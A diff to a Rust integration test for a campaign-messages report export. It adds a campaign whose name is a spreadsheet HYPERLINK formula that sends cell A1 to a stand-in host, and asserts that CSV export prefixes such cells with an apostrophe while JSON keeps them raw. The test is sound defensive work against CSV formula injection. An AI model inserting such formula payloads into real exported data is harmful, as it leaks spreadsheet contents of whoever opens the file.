@@ -148,10 +148,11 @@ async fn reports_filter_page_and_export(backend: Backend) {
         "{stats}"
     );
 
-    // Campaign B: never started, 3 recipients queued.
+    // Campaign B: never started, 3 recipients queued; its name is a spreadsheet formula.
+    let name_b = "=HYPERLINK(\"https://x.example/?q=\"&A1;\"Lembrete\")";
     let b = campaign(
         &app,
-        "Lembrete",
+        name_b,
         t2,
         &[c1],
         json!([
@@ -339,7 +340,13 @@ async fn reports_filter_page_and_export(backend: Backend) {
     let col = |name: &str| header.iter().position(|h| h == name).unwrap();
     for (row, json_row) in parsed[1..].iter().zip(&all) {
         assert_eq!(row[col("id")], json_row["id"].to_string());
-        assert_eq!(row[col("campaign")], json_row["campaign"].as_str().unwrap());
+        let campaign = json_row["campaign"].as_str().unwrap();
+        let inert = if campaign.starts_with('=') {
+            format!("'{campaign}")
+        } else {
+            campaign.to_string()
+        };
+        assert_eq!(row[col("campaign")], inert);
         assert_eq!(row[col("phone")], json_row["phone"].as_str().unwrap());
         assert_eq!(row[col("status")], json_row["status"].as_str().unwrap());
         assert_eq!(
@@ -362,6 +369,23 @@ async fn reports_filter_page_and_export(backend: Backend) {
     let parsed = python_rows(&bytes);
     assert_eq!(parsed.len(), 4);
     assert_eq!(parsed[2][1], name_a);
+    // A cell a spreadsheet would run as a formula is exported inert (`'` first); JSON keeps it.
+    assert_eq!(parsed[1][1], format!("'{name_b}"));
+    let (_, _, bytes) = get_raw(
+        &app,
+        &format!("/api/v1/reports/campaign-messages?format=csv&campanha={b}"),
+    )
+    .await;
+    let rows = python_rows(&bytes);
+    assert_eq!(rows.len(), 4);
+    assert!(
+        rows[1..].iter().all(|r| r[2] == format!("'{name_b}")),
+        "{rows:?}"
+    );
+    assert_eq!(
+        detail(&app, &format!("campanha={b}")).await[0]["campaign"],
+        name_b
+    );
     assert_eq!(
         (parsed[3][0].as_str(), parsed[3][5].as_str()),
         ("TOTAL", "13")
